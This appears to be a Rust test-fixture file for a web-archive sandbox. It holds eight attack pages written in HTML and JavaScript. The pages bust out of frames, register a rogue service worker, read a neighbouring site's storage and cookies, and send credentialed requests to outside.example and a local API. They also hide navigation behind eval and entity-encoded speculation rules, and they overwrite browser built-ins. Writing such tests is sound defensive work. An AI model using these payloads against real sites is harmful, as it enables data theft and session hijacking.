//! Pages that attack: they try to get out, to leave something behind, or to read what is not theirs.
//!
//! Each writes down what it managed to do. What a page tries is harmless for whoever runs the test.

use super::Page;
use super::files::{CHECK_FILE, html, on, script};

pub(super) const PAGES: &[Page] = &[
    Page {
        name: "attack-frames",
        about: "Breaks out of the frame that it is shown in.",
        files: &[html("/", BUSTER), CHECK_FILE],
        talk: &[],
    },
    Page {
        name: "attack-cookies",
        about: "Sets cookies for the whole host, and reads what is there.",
        files: &[html("/", COOKIES), CHECK_FILE],
        talk: &[],
    },
    Page {
        name: "attack-worker",
        about: "Installs a service worker of its own over everything.",
        files: &[
            html("/", WORKER),
            CHECK_FILE,
            script(
                "/evil.js",
                "self.addEventListener('fetch', (event) => event.respondWith(new Response('mine')));",
            ),
        ],
        talk: &["/evil.js"],
    },
    Page {
        name: "attack-neighbours",
        about: "Reads storage, cookies and databases of another archived site.",
        files: &[
            html("/", NEIGHBOURS),
            CHECK_FILE,
            on("victim", html("/keeps", VICTIM)),
            on("victim", CHECK_FILE),
        ],
        talk: &[],
    },
    Page {
        name: "attack-server",
        about: "Sends orders to the pages' server and to hosts outside.",
        files: &[html("/", SERVER), CHECK_FILE],
        talk: &[],
    },
    Page {
        name: "attack-navigation",
        about: "Leads the browser away by addresses that no rewriting has seen.",
        files: &[html("/", NAVIGATION), CHECK_FILE],
        talk: &[],
    },
    Page {
        name: "attack-rules",
        about: "Lets the browser load pages ahead by rules that no rewriting has seen.",
        files: &[html("/", RULES), CHECK_FILE],
        talk: &[],
    },
    Page {
        name: "attack-builtins",
        about: "Takes frames before anyone else does, replaces what everybody calls, and leads away.",
        files: &[html("/", BUILTINS), CHECK_FILE],
        talk: &[],
    },
];

const BUSTER: &str = r#"<!DOCTYPE html><html><head><script src="/check.js"></script></head><body><div id="out"></div><script>
var seen = {};
try { if (top !== self) top.location.href = 'http://outside.example/busted'; } catch (error) { seen.top = error.name; }
try { seen.parent = parent === self ? 'alone' : String(parent.document.title); } catch (error) { seen.parent = error.name; }
try { seen.opener = opener === null ? 'none' : String(opener.document.title); } catch (error) { seen.opener = error.name; }
say('seen', seen); done();
</script></body></html>"#;

const COOKIES: &str = r#"<!DOCTYPE html><html><head><script src="/check.js"></script></head><body><div id="out"></div><script>
say('before', document.cookie);
document.cookie = 'stolen=1; path=/'; document.cookie = 'session=evil; path=/; domain=localhost'; document.cookie = 'x=1; path=/; secure';
say('after', document.cookie.indexOf('stolen=1') >= 0);
say('store', typeof cookieStore);
done();
</script></body></html>"#;

const WORKER: &str = r#"<!DOCTYPE html><html><head><script src="/check.js"></script></head><body><div id="out"></div><script>
(async function () {
  var tried = [];
  for (var url of ['/evil.js', 'evil.js', '/-/worker.js?x', location.origin + '/evil.js']) {
    try { var made = await navigator.serviceWorker.register(url, { scope: '/' }); tried.push(made.active === null); } catch (error) { tried.push(error.name); }
  }
  say('tried', tried);
  say('seen', [(await navigator.serviceWorker.getRegistrations()).length, String(navigator.serviceWorker.controller)]);
  var frame = document.createElement('iframe'); document.body.appendChild(frame);
  try { var far = await frame.contentWindow.navigator.serviceWorker.register('/evil.js', { scope: '/' }); say('frame', far.active === null); }
  catch (error) { say('frame', error.name); }
  done();
})().catch(fail);
</script></body></html>"#;

const VICTIM: &str = r#"<!DOCTYPE html><html><head><script src="/check.js"></script></head><body><div id="out"></div><script>
localStorage.setItem('secret', 'kept'); sessionStorage.setItem('secret', 'kept'); document.cookie = 'secret=kept; path=/';
var asked = indexedDB.open('secret'); asked.onsuccess = function () { done(); };
</script></body></html>"#;

const NEIGHBOURS: &str = r#"<!DOCTYPE html><html><head><script src="/check.js"></script></head><body><div id="out"></div><script>
(async function () {
  say('local', [localStorage.getItem('secret'), Object.keys(localStorage).length, localStorage.length, localStorage.key(0)]);
  say('session', [sessionStorage.getItem('secret'), sessionStorage.length]);
  say('cookie', document.cookie);
  say('bases', (await indexedDB.databases()).length);
  var frame = document.createElement('iframe'); document.body.appendChild(frame);
  say('frame', [frame.contentWindow.localStorage.length, frame.contentDocument.cookie]);
  say('prototype', Storage.prototype.getItem.call(localStorage, 'secret'));
  localStorage.clear();
  done();
})().catch(fail);
</script></body></html>"#;

const SERVER: &str = r#"<!DOCTYPE html><html><head><script src="/check.js"></script></head><body><div id="out"></div>
<form id="form" method="post" action="http://127.0.0.1:{port}/api/v1/jobs" target="hole"><input name="url" value="x"></form><iframe name="hole" id="hole"></iframe><script>
(async function () {
  var tried = {};
  for (var url of ['http://127.0.0.1:{port}/api/v1/jobs', 'http://outside.example/collect', '//outside.example/collect']) {
    try { tried[url] = (await fetch(url, { method: 'POST', body: 'x', credentials: 'include' })).ok; } catch (error) { tried[url] = 'failed'; }
    navigator.sendBeacon(url, 'x');
    new Image().src = url + '?image';
  }
  say('tried', Object.values(tried).map(function (value) { return value === true; }));
  new WebSocket('ws://outside.example/');
  document.body.insertAdjacentHTML('beforeend', '<link rel="stylesheet" href="http://outside.example/a.css"><object data="http://outside.example/o"></object><iframe src="http://outside.example/f"></iframe>');
  var raw = document.createElement('iframe'); document.body.appendChild(raw);
  raw.contentDocument.write('<img src="http://outside.example/raw.png"><script src="http://outside.example/raw.js"><\/script>'); raw.contentDocument.close();
  document.getElementById('form').submit();
  setTimeout(done, 300);
})().catch(fail);
</script></body></html>"#;

const NAVIGATION: &str = r#"<!DOCTYPE html><html><head><script src="/check.js"></script></head><body><div id="out"></div><script>
say('started', true);
setTimeout(function () { (0, eval)('lo' + 'cation.href = "http://outside.example/away"'); }, 50);
done();
</script></body></html>"#;

const RULES: &str = r#"<!DOCTYPE html><html><head><script src="/check.js"></script></head><body><div id="out"></div>
<script type="speculation&#114;ules">{"prefetch":[{"source":"list","urls":["http://127.0.0.1:{port}/rules-0"],"eagerness":"immediate"}]}</script><script>
var rules = function (number) { return JSON.stringify({ prefetch: [{ source: 'list', urls: ['http://127.0.0.1:{port}/rules-' + number], eagerness: 'immediate' }] }); };
var made = function () { return document.createElement('script'); };
var one = made(); one.type = 'speculationrules'; one.textContent = rules(1); document.head.appendChild(one);
var two = made(); two.setAttribute('TYPE', ' SpeculationRules'); two.text = rules(2); document.head.append(two);
var three = made(), type = document.createAttribute('type'); type.value = 'speculationrules'; three.setAttributeNode(type);
three.appendChild(document.createTextNode(rules(3))); document.head.insertBefore(three, null);
var four = made(), late = document.createAttribute('type'); document.head.appendChild(four); late.value = 'speculationrules'; four.setAttributeNode(late); four.textContent = rules(4);
document.write('<script type="speculation&#x72;ules">' + rules(5) + '<\/script>');
say('type', one.type);
setTimeout(done, 300);
</script></body></html>"#;

const BUILTINS: &str = r#"<!DOCTYPE html><html><head><script src="/check.js"></script></head><body><div id="out"></div><div id="box"></div><script>
var box = document.getElementById('box'), seen = [];
var last = function () { return typeof window[window.length - 1].RTCPeerConnection; };
box.innerHTML = '<iframe></iframe>'; seen.push(last());
box.insertAdjacentHTML('beforeend', '<p><iframe></iframe></p>'); seen.push(last());
box.firstChild.outerHTML = '<iframe></iframe>'; seen.push(last());
box.replaceChildren(document.createRange().createContextualFragment('<i><iframe></iframe></i>')); seen.push(last());
document.write('<iframe></iframe>'); seen.push(last());
say('seen', seen);
done();
window.begin = function () {
  var stolen = [];
  Function.prototype.call = Function.prototype.apply = function () { stolen.push(this); };
  RegExp.prototype.test = function () { return false; }; RegExp.prototype.exec = function () { return null; };
  String.prototype.startsWith = String.prototype.includes = function () { return true; };
  Element.prototype.getElementsByTagName = function () { return []; };
  Object.defineProperty(NavigateEvent.prototype, 'destination', { get: function () { return { url: 'about:blank' }; } });
  Object.defineProperty(window, 'length', { value: 0 });
  Event.prototype.preventDefault = function () {};
  var count = 0; while (window[count]) count += 1;
  var frame = document.createElement('iframe'); document.body.appendChild(frame);
  window.name = typeof window[count].RTCPeerConnection + ' ' + stolen.length;
  self['loc' + 'ation'] = 'http://outside.example/away';
};
</script></body></html>"#;
